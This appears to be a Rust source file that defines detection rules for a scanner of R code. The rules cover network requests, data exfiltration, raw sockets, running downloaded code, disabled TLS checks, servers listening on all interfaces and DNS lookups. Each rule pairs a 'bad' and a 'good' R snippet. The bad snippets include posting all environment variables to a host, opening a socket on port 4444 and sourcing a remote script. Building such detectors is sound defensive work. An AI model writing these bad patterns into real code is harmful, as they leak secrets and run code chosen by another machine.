//! The network: requests, sockets, servers, and what is sent.

use crate::scanner::{Capability, Confidence, Example, Group, Rule, RuleLanguage, Severity};

pub(in crate::scanner) static NETWORK_REQUEST: Rule = Rule {
    id: "R501",
    name: "network-request",
    language: RuleLanguage::R,
    group: Group::Network,
    severity: Severity::Low,
    confidence: Confidence::High,
    cwe: 200,
    aliases: &["B310"],
    capability: Some(Capability::Network),
    title: "the network is reached",
    explanation: "The code depends on, and tells, another machine.",
    remedy: "Take the data as input, or declare the address in the manifest.",
    example: Example {
        bad: "page <- httr::GET(\"https://example.org\")\n",
        good: "page <- readLines(\"page.html\")\n",
    },
};

pub(in crate::scanner) static EXFILTRATION: Rule = Rule {
    id: "R502",
    name: "exfiltration",
    language: RuleLanguage::R,
    group: Group::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "what the code was given is sent away",
    explanation: "Environment variables, files or input go into a request to another machine.",
    remedy: "Send nothing that the host did not ask to be sent.",
    example: Example {
        bad: "httr::POST(\"https://example.org\", body = Sys.getenv())\n",
        good: "httr::POST(\"https://example.org\", body = list(n = 1))\n",
    },
};

pub(in crate::scanner) static SOCKET: Rule = Rule {
    id: "R503",
    name: "socket",
    language: RuleLanguage::R,
    group: Group::Network,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "a socket is opened",
    explanation: "A raw connection carries anything in both directions; shells to elsewhere are made of it.",
    remedy: "Use an HTTP client with a declared address.",
    example: Example {
        bad: "con <- socketConnection(\"example.org\", 4444)\n",
        good: "con <- textConnection(\"a\")\n",
    },
};

pub(in crate::scanner) static DOWNLOADED_CODE: Rule = Rule {
    id: "R504",
    name: "downloaded-code",
    language: RuleLanguage::R,
    group: Group::Network,
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: 494,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "something fetched from the network is run",
    explanation: "What runs is chosen by another machine at that moment.",
    remedy: "Ship the code in the package.",
    example: Example {
        bad: "download.file(\"http://example.org/a.R\", \"a.R\")\nsource(\"a.R\")\n",
        good: "download.file(\"https://example.org/a.csv\", \"a.csv\")\nread.csv(\"a.csv\")\n",
    },
};

pub(in crate::scanner) static TLS_CHECKS_OFF: Rule = Rule {
    id: "R505",
    name: "tls-checks-off",
    language: RuleLanguage::R,
    group: Group::Tls,
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 295,
    aliases: &["B501"],
    capability: Some(Capability::Network),
    title: "certificates are not checked",
    explanation: "Anybody between the two ends can read and change what is sent.",
    remedy: "Leave the checks on; give a certificate with `cainfo`.",
    example: Example {
        bad: "httr::GET(address, httr::config(ssl_verifypeer = 0L))\n",
        good: "httr::GET(address, httr::config(ssl_verifypeer = 1L))\n",
    },
};

pub(in crate::scanner) static BOUND_TO_ALL: Rule = Rule {
    id: "R506",
    name: "bound-to-all-interfaces",
    language: RuleLanguage::R,
    group: Group::Servers,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 605,
    aliases: &["B104"],
    capability: Some(Capability::Network),
    title: "a server listens on all interfaces",
    explanation: "Everybody on the network can reach it.",
    remedy: "Listen on `127.0.0.1`.",
    example: Example {
        bad: "shiny::runApp(app, host = \"0.0.0.0\")\n",
        good: "shiny::runApp(app, host = \"127.0.0.1\")\n",
    },
};

pub(in crate::scanner) static NAME_LOOKUP: Rule = Rule {
    id: "R507",
    name: "name-lookup",
    language: RuleLanguage::R,
    group: Group::Exfiltration,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 200,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "a host name is looked up",
    explanation: "A look-up carries what is in the name to whoever answers, past what blocks connections.",
    remedy: "Remove it.",
    example: Example { bad: "utils::nsl(\"example.org\")\n", good: "host <- \"example.org\"\n" },
};
